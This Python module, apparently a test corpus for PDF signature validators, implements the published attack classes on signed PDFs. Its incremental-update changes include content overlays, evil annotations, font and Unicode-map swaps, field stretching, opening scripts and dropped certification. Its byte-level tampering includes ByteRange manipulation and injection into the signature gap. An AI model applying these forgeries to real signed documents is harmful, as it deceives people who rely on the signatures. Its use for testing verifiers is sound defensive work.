"""Ways to change a signed PDF behind its signature: incremental updates and changes of bytes.

The classes are those of the published attacks on PDF signatures (universal forgery, incremental saving,
signature wrapping, shadow attacks, evil annotation and sneaky signature). Each takes a signed file and
returns the changed one.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import ArrayObject, DictionaryObject, NumberObject, StreamObject, pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Attack = Callable[[bytes], bytes]


class _SilentWriter(IncrementalPdfFileWriter):
    """A writer that adds nothing of its own to the revision."""

    def _update_meta(self) -> None:
        pass


def updated(change: Callable[[IncrementalPdfFileWriter], None]) -> Attack:
    """An attack that appends a revision with the objects that `change` touches."""

    def attack(data: bytes) -> bytes:
        writer = _SilentWriter(BytesIO(data))
        change(writer)
        out = BytesIO()
        writer.write(out)
        return out.getvalue()

    return attack


def _page(writer: IncrementalPdfFileWriter, number: int = 0) -> Any:
    reference, _ = writer.find_page_for_modification(number)
    return reference.get_object()


def _replace_content(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    page["/Contents"] = writer.add_object(StreamObject(stream_data=b"0 0 1 rg 0 0 300 300 re f"))
    writer.update_container(page)


def _overlay_content(writer: IncrementalPdfFileWriter) -> None:
    page = _page(writer)
    more = writer.add_object(StreamObject(stream_data=b"1 1 1 rg 60 400 400 200 re f"))
    page["/Contents"] = ArrayObject([page.raw_get("/Contents"), more])
    writer.update_container(page)


def _change_stream_in_place(writer: IncrementalPdfFileWriter) -> None:
    stream = _page(writer)["/Contents"]
    stream._data = stream.data.replace(b"Tm", b"Tm", 1) + b"\n1 1 1 rg 0 0 200 200 re f"
    stream._encoded_data = None
    writer.update_container(stream)


def _annotation(subtype: str) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        note = DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/Rect"): ArrayObject([NumberObject(n) for n in (60, 400, 500, 600)]),
                pdf_name("/Contents"): generic.pdf_string("The request is withdrawn."),
                pdf_name("/DA"): generic.pdf_string("/Helv 12 Tf 0 g"),
            }
        )
        present = page.get("/Annots", ArrayObject())
        page["/Annots"] = ArrayObject([*present, writer.add_object(note)])
        writer.update_container(page)

    return change


def _swap_pages(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"] = ArrayObject(reversed(list(pages["/Kids"])))
    writer.update_container(pages)


def _drop_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"] = ArrayObject(list(pages["/Kids"])[1:])
    pages["/Count"] = NumberObject(len(pages["/Kids"]))
    writer.update_container(pages)


def _change_font(writer: IncrementalPdfFileWriter) -> None:
    fonts = _page(writer)["/Resources"]["/Font"]
    first = next(iter(fonts.values())).get_object()
    descriptor = first["/DescendantFonts"][0].get_object()["/FontDescriptor"]
    descriptor["/FontFile2"] = writer.add_object(StreamObject(stream_data=b"other outlines"))
    writer.update_container(descriptor)


def _change_unicode_table(writer: IncrementalPdfFileWriter) -> None:
    fonts = _page(writer)["/Resources"]["/Font"]
    font = next(iter(fonts.values())).get_object()
    font["/ToUnicode"] = writer.add_object(StreamObject(stream_data=b"1 beginbfchar <0001> <0058> endbfchar"))
    writer.update_container(font)


def _in_root(key: str, value: Any) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[pdf_name(key)] = value
        writer.update_root()

    return change


def _open_action(kind: str, entry: str, value: str) -> Callable[[IncrementalPdfFileWriter], None]:
    action = {
        pdf_name("/Type"): pdf_name("/Action"),
        pdf_name("/S"): pdf_name(kind),
        pdf_name(entry): generic.pdf_string(value),
    }
    return _in_root("/OpenAction", DictionaryObject(action))


def _script_in_names(writer: IncrementalPdfFileWriter) -> None:
    script = DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert(1)")}
    )
    tree = DictionaryObject(
        {pdf_name("/Names"): ArrayObject([generic.pdf_string("x"), writer.add_object(script)])}
    )
    writer.root["/Names"] = DictionaryObject({pdf_name("/JavaScript"): tree})
    writer.update_root()


def _field(writer: IncrementalPdfFileWriter, name: str) -> Any:
    fields = writer.root["/AcroForm"]["/Fields"]
    return next(field.get_object() for field in fields if field.get_object()["/T"] == name)


def _change_own_appearance(writer: IncrementalPdfFileWriter) -> None:
    field = _field(writer, "Officer")
    drawing = StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 50)]),
        },
        stream_data=b"1 0 0 rg 0 0 100 50 re f",
    )
    field["/AP"] = DictionaryObject({pdf_name("/N"): writer.add_object(drawing)})
    writer.update_container(field)


def _stretch_other_field(writer: IncrementalPdfFileWriter) -> None:
    field = _field(writer, "HeadOfOffice")
    field["/Rect"] = ArrayObject([NumberObject(n) for n in (0, 0, 595, 842)])
    writer.update_container(field)


def _add_text_field(writer: IncrementalPdfFileWriter) -> None:
    field = DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.pdf_string("amount"),
            pdf_name("/V"): generic.pdf_string("EUR 9,000,000"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): ArrayObject([NumberObject(n) for n in (60, 500, 400, 560)]),
        }
    )
    form = writer.root["/AcroForm"]
    form["/Fields"] = ArrayObject([*form["/Fields"], writer.add_object(field)])
    writer.update_container(form)


def _form_entry(key: str, value: Any) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        form[pdf_name(key)] = value
        writer.update_container(form)

    return change


def _change_information(writer: IncrementalPdfFileWriter) -> None:
    info = writer.trailer_view["/Info"]
    info["/Title"] = generic.pdf_string("Another request")
    writer.update_container(info)


def _add_metadata(writer: IncrementalPdfFileWriter) -> None:
    packet = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt>'
        b'<rdf:li xml:lang="x-default">Another request</rdf:li></rdf:Alt></dc:title></rdf:Description>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    entries = {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")}
    writer.root["/Metadata"] = writer.add_object(StreamObject(entries, stream_data=packet))
    writer.update_root()


def _drop_certification(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/Perms"]
    writer.update_root()
    _overlay_content(writer)


def _page_entry(key: str, value: Any) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        page[pdf_name(key)] = value
        writer.update_container(page)

    return change


def _change_outline(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/Outlines"] = writer.add_object(DictionaryObject({pdf_name("/Type"): pdf_name("/Outlines")}))
    writer.update_root()


UPDATES: dict[str, Attack] = {
    "content replaced": updated(_replace_content),
    "content covered by more content": updated(_overlay_content),
    "content stream changed": updated(_change_stream_in_place),
    "free text laid over": updated(_annotation("/FreeText")),
    "stamp laid over": updated(_annotation("/Stamp")),
    "passage struck out": updated(_annotation("/StrikeOut")),
    "pages swapped": updated(_swap_pages),
    "page dropped": updated(_drop_page),
    "outlines of the font swapped": updated(_change_font),
    "text behind the glyphs changed": updated(_change_unicode_table),
    "address opened": updated(_open_action("/URI", "/URI", "https://x.example")),
    "script on opening": updated(_open_action("/JavaScript", "/JS", "app.alert(1)")),
    "script in the name tree": updated(_script_in_names),
    "appearance of the signature changed": updated(_change_own_appearance),
    "empty field stretched over the page": updated(_stretch_other_field),
    "text field added": updated(_add_text_field),
    "forms made anew by the viewer": updated(_form_entry("/NeedAppearances", generic.BooleanObject(True))),
    "XFA form added": updated(_form_entry("/XFA", generic.pdf_string("<xdp/>"))),
    "title changed": updated(_change_information),
    "title changed in the metadata": updated(_add_metadata),
    "certification dropped": updated(_drop_certification),
    "page turned": updated(_page_entry("/Rotate", NumberObject(180))),
    "page cropped": updated(
        _page_entry("/CropBox", ArrayObject([NumberObject(n) for n in (0, 0, 595, 400)]))
    ),
    "layers switched off": updated(
        _in_root("/OCProperties", DictionaryObject({pdf_name("/OCGs"): ArrayObject()}))
    ),
    "outline replaced": updated(_change_outline),
    "language changed": updated(_in_root("/Lang", generic.pdf_string("xx"))),
}
"""Attacks that append a revision and leave the signed bytes alone."""


def _byte_range(data: bytes) -> tuple[int, int, int, int]:
    found = list(re.finditer(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)", data))[-1]
    first, gap, after, rest = (int(group) for group in found.groups())
    return first, gap, after, rest


def _put(data: bytes, at: int, what: bytes) -> bytes:
    return data[:at] + what + data[at + len(what) :]


def _flip_signed_byte(data: bytes) -> bytes:
    return _put(data, 2000, bytes([data[2000] ^ 0x20]))


def _zero_range(data: bytes) -> bytes:
    return re.sub(
        rb"(/ByteRange \[)[\d ]+", lambda m: m.group(1) + b"0 0 0 0 ".ljust(len(m.group(0)) - 12), data
    )


def _drop_range(data: bytes) -> bytes:
    return data.replace(b"/ByteRange", b"/ByteRangX")


def _empty_contents(data: bytes) -> bytes:
    _, gap, after, _ = _byte_range(data)
    return data[: gap + 1] + b"0" * (after - gap - 2) + data[after - 1 :]


def _no_contents(data: bytes) -> bytes:
    return data.replace(b"/Contents <", b"/Contentz <")


def _inject_into_gap(data: bytes) -> bytes:
    """Put objects between the container and the second part of the signed range."""
    _, _, after, _ = _byte_range(data)
    return data[:after] + b"\n99 0 obj << /Evil true >> endobj\n" + data[after:]


def _widen_gap(data: bytes) -> bytes:
    """Declare a bigger gap, so that less is signed."""
    first, gap, after, rest = _byte_range(data)
    old = f"[{first} {gap} {after} {rest}".encode()
    new = f"[{first} {gap} {after + 50} {rest - 50}".encode()
    return data.replace(old, new.ljust(len(old))[: len(old)])


def _pad_container(data: bytes) -> bytes:
    """Hide bytes in the zeros behind the signature."""
    _, _, after, _ = _byte_range(data)
    return _put(data, after - 9, b"deadbeef")


def _append_junk(data: bytes) -> bytes:
    return data + b"\n% a remark that nobody signed\n"


def _prepend_junk(data: bytes) -> bytes:
    return b"%PDF-1.4 junk\n" + data


def _truncate(data: bytes) -> bytes:
    return data[: len(data) * 3 // 4]


def _second_copy(data: bytes) -> bytes:
    return data + data


BYTES: dict[str, Attack] = {
    "signed byte flipped": _flip_signed_byte,
    "range of zeros": _zero_range,
    "no range": _drop_range,
    "container of zeros": _empty_contents,
    "no container": _no_contents,
    "objects in the gap": _inject_into_gap,
    "gap widened": _widen_gap,
    "bytes hidden in the container": _pad_container,
    "remark appended": _append_junk,
    "something in front": _prepend_junk,
    "cut off": _truncate,
    "file twice": _second_copy,
}
"""Attacks on the bytes of the file."""
